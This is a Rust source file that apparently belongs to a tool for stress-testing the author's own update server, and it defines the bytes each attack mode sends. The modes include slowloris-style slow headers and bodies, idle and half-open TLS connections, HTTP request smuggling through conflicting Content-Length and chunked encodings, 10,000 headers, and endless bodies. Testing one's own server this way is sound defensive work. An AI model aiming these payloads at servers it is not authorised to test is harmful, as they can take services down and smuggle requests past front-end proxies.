//! What each attack sends.

use clap::ValueEnum;
use rustls::pki_types::ServerName;

use crate::{
    client::{Connector, Target},
    update::{HOST, head},
};

#[derive(ValueEnum, Clone, Copy)]
pub enum Attack {
    /// Heads that never end, a line per second
    SlowHeads,
    /// Bodies with a wrong token that never end, a byte per second
    SlowBodies,
    /// TCP connections that say nothing
    IdleTcp,
    /// TLS connections that say nothing
    IdleTls,
    /// Half a ClientHello
    HalfOpenTls,
    /// Random bytes in place of TLS
    Garbage,
    /// The preface of HTTP/2 in TLS
    Http2Preface,
    /// Two lengths, and a second request hidden in the body
    SmuggledLength,
    /// Chunks of a length that parsers disagree about
    SmuggledChunk,
    /// 10,000 headers
    ManyHeaders,
    /// A body of 1 GiB, announced
    HugeBody,
    /// A body without end, in chunks
    HugeChunks,
}

/// One connection of an attack.
pub(super) struct Script {
    pub(super) tls: bool,
    pub(super) opening: Vec<u8>,
    pub(super) then: Then,
}

/// What follows the opening, until the server closes.
pub(super) enum Then {
    Wait,
    /// Again and again, with pauses.
    Drip(&'static [u8]),
    /// Again and again, without.
    Stream(Vec<u8>),
}

/// Enough that a write is worth its system call.
const CHUNK: usize = 64 << 10;

// === impl Attack ===

impl Attack {
    pub(super) fn script(self, target: &Target, connector: &Connector) -> anyhow::Result<Script> {
        let request = |lines: &str| head(&target.path, &target.token, lines).into_bytes();
        let (tls, opening, then) = match self {
            Self::SlowHeads => {
                let mut head = request("");
                head.truncate(head.len() - 2);
                (true, head, Then::Drip(b"X-More: and more\r\n"))
            }
            Self::SlowBodies => (true, request("Content-Length: 900\r\n"), Then::Drip(b"{")),
            Self::IdleTcp => (false, Vec::new(), Then::Wait),
            Self::IdleTls => (true, Vec::new(), Then::Wait),
            Self::HalfOpenTls => (false, half_a_hello(connector)?, Then::Wait),
            Self::Garbage => {
                let mut bytes = vec![0; 1024];
                getrandom::fill(&mut bytes)?;
                (false, bytes, Then::Wait)
            }
            Self::Http2Preface => {
                let preface = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0";
                (true, preface.to_vec(), Then::Wait)
            }
            Self::SmuggledLength => {
                let mut outer = request("Content-Length: 4\r\nTransfer-Encoding: chunked\r\n");
                outer.extend_from_slice(b"0\r\n\r\n");
                outer.extend(request("Content-Length: 2\r\n"));
                outer.extend_from_slice(b"{}");
                (true, outer, Then::Wait)
            }
            Self::SmuggledChunk => {
                let mut outer = request("Transfer-Encoding: chunked\r\n");
                outer.extend_from_slice(b"0x2\r\n{}\r\n+0;a=\"\n\"\r\n\r\n");
                outer.extend(request("Content-Length: 2\r\n"));
                outer.extend_from_slice(b"{}");
                (true, outer, Then::Wait)
            }
            Self::ManyHeaders => (true, request(&"X-H: value\r\n".repeat(10_000)), Then::Wait),
            Self::HugeBody => {
                (true, request(&format!("Content-Length: {}\r\n", 1 << 30)), Then::Stream(vec![b' '; CHUNK]))
            }
            Self::HugeChunks => {
                let mut chunk = format!("{CHUNK:x}\r\n").into_bytes();
                chunk.resize(chunk.len() + CHUNK, b' ');
                chunk.extend_from_slice(b"\r\n");
                (true, request("Transfer-Encoding: chunked\r\n"), Then::Stream(chunk))
            }
        };
        Ok(Script { tls, opening, then })
    }
}

fn half_a_hello(connector: &Connector) -> anyhow::Result<Vec<u8>> {
    let mut connection = rustls::ClientConnection::new(connector.config(), ServerName::try_from(HOST)?)?;
    let mut hello = Vec::new();
    connection.write_tls(&mut hello)?;
    hello.truncate(hello.len() / 2);
    Ok(hello)
}
